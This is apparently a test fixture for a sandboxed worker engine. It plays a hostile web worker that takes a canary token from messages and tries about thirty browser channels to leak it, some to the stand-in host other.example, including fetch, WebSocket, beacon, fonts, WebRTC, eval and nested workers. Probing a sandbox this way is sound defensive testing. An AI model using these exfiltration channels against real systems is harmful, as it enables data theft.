// What a worker would do that was bought: as soon as it sees a return, it tries every way out that a worker has.
// `sealed.test.ts` puts this in front of the real engine's file; `OWN` and `UDP` are where its sockets listen.
let hasSpied = false;

/** The canary in a message of any shape: in its bytes or in its texts. */
function findCanary(value) {
  if (typeof value === "string") return /CANARY\w+/.exec(value)?.[0];
  if (value instanceof Uint8Array) return findCanary(new TextDecoder().decode(value.subarray(0, 1000)));
  if (value === null || typeof value !== "object") return undefined;
  for (const part of Object.values(value)) {
    const found = findCanary(part);
    if (found !== undefined) return found;
  }
  return undefined;
}

self.addEventListener("message", async ({ data }) => {
  const canary = hasSpied ? undefined : findCanary(data);
  if (canary === undefined) return;
  hasSpied = true;
  const to = (way) => `http://${way.toLowerCase()}.other.example:80/${canary}?way=${way}`;
  const own = (way) => `${OWN}${canary}?way=${way}`;
  const soon = (work) =>
    Promise.race([Promise.resolve().then(work), new Promise((_, no) => setTimeout(no, 1500))]);
  const ways = {
    fetchOwn: () => fetch(own("fetchOwn")),
    fetchOther: () => fetch(to("fetchOther"), { mode: "no-cors" }),
    fetchPost: () =>
      fetch(to("fetchPost"), { method: "POST", body: canary, mode: "no-cors", keepalive: true }),
    fetchTls: () => fetch("https://fetchtls.other.example/", { mode: "no-cors" }),
    xhr: () =>
      new Promise((done) => {
        const one = new XMLHttpRequest();
        one.open("GET", own("xhr"));
        one.onloadend = done;
        one.send();
      }),
    xhrSync: () => {
      const one = new XMLHttpRequest();
      one.open("GET", own("xhrSync"), false);
      one.send();
    },
    webSocket: () =>
      new Promise((done) => {
        const one = new WebSocket(own("webSocket").replace("http", "ws"));
        one.onclose = one.onopen = done;
      }),
    webSocketOther: () =>
      new Promise((done) => {
        const one = new WebSocket(to("webSocketOther").replace("http", "ws"));
        one.onclose = one.onopen = done;
      }),
    eventSource: () =>
      new Promise((done) => {
        const one = new EventSource(own("eventSource"));
        one.onerror = one.onopen = () => {
          one.close();
          done();
        };
      }),
    beacon: () => navigator.sendBeacon(own("beacon"), canary),
    importScripts: () => importScripts(own("importScripts")),
    importScriptsOther: () => importScripts(to("importScriptsOther")),
    import: () => import(own("import")),
    worker: () =>
      new Promise((done) => {
        const one = new Worker(own("worker"));
        one.onerror = one.onmessage = done;
      }),
    workerOfText: () =>
      new Promise((done) => {
        const one = new Worker(
          URL.createObjectURL(new Blob([`fetch(${JSON.stringify(own("workerOfText"))})`])),
        );
        one.onerror = done;
        setTimeout(done, 1000);
      }),
    sharedWorker: () => new SharedWorker(own("sharedWorker")),
    font: () => new FontFace("x", `url(${JSON.stringify(own("font"))})`).load(),
    fontOnCanvas: async () => {
      const face = new FontFace("y", `url(${JSON.stringify(to("fontOnCanvas"))})`);
      self.fonts.add(face);
      const context = new OffscreenCanvas(9, 9).getContext("2d");
      context.font = "9px y";
      context.fillText(canary, 0, 9);
      await face.loaded;
    },
    image: () => {
      const one = new Image();
      one.src = own("image");
    },
    caches: async () => (await caches.open("x")).add(own("caches")),
    rtc: async () => {
      const one = new RTCPeerConnection({ iceServers: [{ urls: `stun:${UDP}` }] });
      one.createDataChannel(canary);
      await one.setLocalDescription(await one.createOffer());
    },
    webTransport: () => new WebTransport(`https://${UDP}/${canary}`).ready,
    serviceWorker: () => navigator.serviceWorker.register(own("serviceWorker")),
    notification: () => new Notification(canary, { icon: own("notification") }),
    storage: () =>
      new Promise((done, no) => {
        const one = indexedDB.open(canary);
        one.onsuccess = done;
        one.onerror = no;
      }),
    files: async () => (await navigator.storage.getDirectory()).getFileHandle(canary, { create: true }),
    locks: () => navigator.locks.request(canary, () => undefined),
    // oxlint-disable-next-line no-eval -- a way out like the others
    code: () => (0, eval)(`fetch(${JSON.stringify(own("code"))})`),
    codeOfText: () => new Function(`return fetch(${JSON.stringify(own("codeOfText"))})`)(),
    timer: () => setTimeout(`fetch(${JSON.stringify(own("timer"))})`, 0),
    wasmStream: () => WebAssembly.compileStreaming(fetch(own("wasmStream"))),
  };
  const told = [];
  await Promise.all(
    Object.entries(ways).map(async ([name, work]) => {
      try {
        await soon(work);
        told.push(`${name} done`);
      } catch (error) {
        told.push(`${name} ${error?.name ?? "late"}`);
      }
    }),
  );
  self.postMessage({ kind: "spied", told });
});
